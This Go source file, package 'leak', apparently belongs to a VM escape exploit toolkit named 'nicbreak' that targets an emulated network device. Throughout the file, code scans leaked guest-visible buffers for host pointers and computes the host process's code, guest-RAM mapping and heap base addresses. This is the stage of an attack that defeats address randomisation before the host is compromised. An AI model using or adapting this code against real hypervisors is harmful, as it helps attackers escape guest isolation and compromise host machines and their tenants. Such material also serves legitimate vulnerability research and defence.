// Package leak recovers host process base addresses from bytes that an
// emulated device copied into guest-visible buffers.
//
// Buffers are read as a sequence of 8-byte aligned little-endian words.
// A word that carries the high bits of a known mapping is a pointer
// candidate. Subtracting a known symbol offset from a candidate yields
// the mapping base when the result is page aligned.
package leak

import (
	"errors"
	"fmt"

	"github.com/apex/log"
	"github.com/dustin/go-humanize"

	"gitlab.com/stephen-fox/nicbreak/memory"
	"gitlab.com/stephen-fox/nicbreak/pagemap"
)

var (
	// ErrBaseNotFound is returned when no buffer holds a word that
	// matches a signature family.
	ErrBaseNotFound = errors.New("base address not found")

	// ErrCodeBaseRequired is returned when the heap family is scanned
	// before the code base is known.
	ErrCodeBaseRequired = errors.New("heap scan requires a code base")

	DefaultExitFn = func(err error) {
		log.Fatal(err.Error())
	}
)

// CodeSignature matches pointers into the code segment.
type CodeSignature struct {
	// Mask selects the high bits compared against Match.
	Mask  uint64
	Match uint64

	// Offsets of symbols whose addresses are known to leak, relative
	// to the code base. They are tried in order.
	Offsets []uint64
}

// PhysSignature matches pointers into the host mapping of guest RAM.
type PhysSignature struct {
	Mask  uint64
	Match uint64

	// AlignMask is applied to a match before RegionSize is subtracted.
	AlignMask  uint64
	RegionSize uint64
}

// HeapSignature matches pointers into the heap region that follows
// the code segment.
type HeapSignature struct {
	// RegionMask selects the bits a heap pointer shares with the
	// code base.
	RegionMask uint64

	// MinDistance excludes pointers into the code segment itself.
	MinDistance uint64

	// Offsets of known heap objects relative to the heap base.
	Offsets []uint64
}

// Signatures holds one signature per family.
type Signatures struct {
	Code CodeSignature
	Phys PhysSignature
	Heap HeapSignature
}

// NewScanner returns a Scanner for 64-bit little-endian targets.
func NewScanner(signatures Signatures) *Scanner {
	return &Scanner{
		signatures: signatures,
		pm:         memory.PointerMakerForX86_64(),
	}
}

// Scanner searches buffers for pointers that match signatures.
type Scanner struct {
	signatures Signatures
	pm         memory.PointerMaker
}

// Scan searches buf for the family kind. known supplies the bases
// a family depends on. It returns false when buf holds no match.
func (o *Scanner) Scan(buf []byte, kind Kind, known Bases) (uint64, bool, error) {
	switch kind {
	case CodeBase:
		v, ok := o.ScanCode(buf)
		return v, ok, nil
	case PhysMemBase:
		v, ok := o.ScanPhys(buf)
		return v, ok, nil
	case HeapBase:
		if known.Code == 0 {
			return 0, false, ErrCodeBaseRequired
		}
		v, ok := o.ScanHeap(buf, known.Code)
		return v, ok, nil
	default:
		return 0, false, fmt.Errorf("unknown base kind: %s", kind)
	}
}

// ScanCode returns the first code base candidate in buf.
func (o *Scanner) ScanCode(buf []byte) (uint64, bool) {
	sig := o.signatures.Code

	return o.firstWord(buf, func(value uint64) (uint64, bool) {
		if value&sig.Mask != sig.Match {
			return 0, false
		}

		return pageAlignedBase(value, sig.Offsets)
	})
}

// ScanPhys returns the first guest RAM base candidate in buf.
func (o *Scanner) ScanPhys(buf []byte) (uint64, bool) {
	sig := o.signatures.Phys

	return o.firstWord(buf, func(value uint64) (uint64, bool) {
		if value&sig.Mask != sig.Match {
			return 0, false
		}

		return value&sig.AlignMask - sig.RegionSize, true
	})
}

// ScanHeap returns the first heap base candidate in buf. codeBase must
// be the recovered code base.
func (o *Scanner) ScanHeap(buf []byte, codeBase uint64) (uint64, bool) {
	sig := o.signatures.Heap
	region := codeBase & sig.RegionMask

	return o.firstWord(buf, func(value uint64) (uint64, bool) {
		if value == 0 || value&sig.RegionMask != region {
			return 0, false
		}

		// The distance wraps, so pointers below the code base
		// are accepted.
		if value-codeBase <= sig.MinDistance {
			return 0, false
		}

		return pageAlignedBase(value, sig.Offsets)
	})
}

// firstWord calls match for each aligned word of buf and returns the
// first non-zero candidate. The final word of a buffer whose length is
// a multiple of eight is not examined.
func (o *Scanner) firstWord(buf []byte, match func(uint64) (uint64, bool)) (uint64, bool) {
	size := o.pm.Size()

	for i := 0; i < len(buf)-size; i += size {
		value, err := o.pm.ReadAt(buf, i)
		if err != nil {
			return 0, false
		}

		candidate, ok := match(value)
		if ok && candidate != 0 {
			return candidate, true
		}
	}

	return 0, false
}

func pageAlignedBase(value uint64, offsets []uint64) (uint64, bool) {
	for _, offset := range offsets {
		candidate := value - offset
		if candidate&pagemap.PageMask == 0 {
			return candidate, true
		}
	}

	return 0, false
}

func (o *Scanner) FindOrExit(bufs [][]byte, kind Kind, known Bases) uint64 {
	v, err := o.Find(bufs, kind, known)
	if err != nil {
		DefaultExitFn(err)
	}
	return v
}

// Find scans each buffer in order until one yields a base for kind.
func (o *Scanner) Find(bufs [][]byte, kind Kind, known Bases) (uint64, error) {
	total := 0

	for i, buf := range bufs {
		total += len(buf)

		value, ok, err := o.Scan(buf, kind, known)
		if err != nil {
			return 0, err
		}

		if ok {
			log.WithFields(log.Fields{
				"kind":   kind.String(),
				"buffer": i,
				"value":  fmt.Sprintf("0x%x", value),
			}).Debug("found base candidate")
			return value, nil
		}
	}

	return 0, fmt.Errorf("failed to find %s base in %d buffers (%s) - %w",
		kind, len(bufs), humanize.Bytes(uint64(total)), ErrBaseNotFound)
}

func (o *Scanner) FindAllOrExit(bufs [][]byte) Bases {
	bases, err := o.FindAll(bufs)
	if err != nil {
		DefaultExitFn(err)
	}
	return bases
}

// FindAll recovers every base from bufs. Families are searched in the
// order of Kinds so that the heap family sees the code base.
func (o *Scanner) FindAll(bufs [][]byte) (Bases, error) {
	var bases Bases

	for _, kind := range Kinds {
		value, err := o.Find(bufs, kind, bases)
		if err != nil {
			return bases, err
		}

		bases.Set(Base{Kind: kind, Value: value})
	}

	return bases, nil
}
